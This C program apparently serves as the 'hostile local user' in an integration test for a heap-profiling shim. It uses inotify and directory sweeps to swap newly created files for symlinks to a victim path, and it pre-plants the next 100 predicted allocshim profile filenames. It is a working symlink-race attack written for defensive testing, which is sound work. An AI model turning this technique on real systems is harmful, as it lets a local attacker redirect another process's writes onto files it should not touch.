/* The hostile local user of tests/integration/prof_hostile.sh (run as nobody): for
 * SECONDS it points a symlink at VICTIM from every name in DIR it can take, as soon as
 * the name appears, and from the next 100 default profile names once it has seen one. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *victim;
static long swapped, planted;
static volatile sig_atomic_t stop; /* SIGTERM: the test is done; report and go */

static void on_term(int sig) {
  (void)sig;
  stop = 1;
}

/* Replaces `name` (if this user may) by a symlink to the victim. */
static void take(const char *name) {
  struct stat st;
  if (lstat(name, &st) == 0 && S_ISLNK(st.st_mode))
    return;
  if (unlink(name) != 0 && errno != ENOENT)
    return;
  swapped += symlink(victim, name) == 0;
}

/* Having seen allocshim.<pid>.<seq>.heap, the names that process will use next. */
static void plant_after(const char *name) {
  long pid;
  unsigned seq;
  static long planted_for;
  if (sscanf(name, "allocshim.%ld.%u.heap", &pid, &seq) != 2 || pid == planted_for)
    return;
  planted_for = pid;
  for (unsigned i = 1; i <= 100; i++) {
    char next[64];
    snprintf(next, sizeof next, "allocshim.%ld.%u.heap", pid, seq + i);
    planted += symlink(victim, next) == 0;
  }
}

static void sweep(void) {
  DIR *d = opendir(".");
  for (struct dirent *e; d && (e = readdir(d)) != NULL;)
    if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) {
      plant_after(e->d_name);
      take(e->d_name);
    }
  if (d)
    closedir(d);
}

int main(int argc, char **argv) {
  if (argc < 4 || chdir(argv[1]) != 0) {
    fprintf(stderr, "usage: %s DIR VICTIM SECONDS [NAME...]\n", argv[0]);
    return 2;
  }
  victim = argv[2];
  time_t end = time(NULL) + atoi(argv[3]);
  for (int i = 4; i < argc; i++)
    planted += symlink(victim, argv[i]) == 0;
  int in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  if (in < 0 || inotify_add_watch(in, ".", IN_CREATE | IN_MOVED_TO) < 0) {
    perror("inotify");
    return 2;
  }
  struct sigaction sa = {0};
  sa.sa_handler = on_term; /* no SA_RESTART: poll() returns at once */
  sigaction(SIGTERM, &sa, NULL);
  printf("ready\n");
  fflush(stdout);
  while (!stop && time(NULL) < end) {
    struct pollfd p = {in, POLLIN, 0};
    if (poll(&p, 1, 5) <= 0) {
      sweep();
      continue;
    }
    char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
    ssize_t n = read(in, buf, sizeof buf);
    for (char *at = buf; n > 0 && at < buf + n;) {
      struct inotify_event *ev = (struct inotify_event *)at;
      if (ev->len > 0) {
        take(ev->name);
        plant_after(ev->name);
      }
      at += sizeof *ev + ev->len;
    }
  }
  printf("attacker: %ld names taken, %ld planted\n", swapped, planted);
  return 0;
}
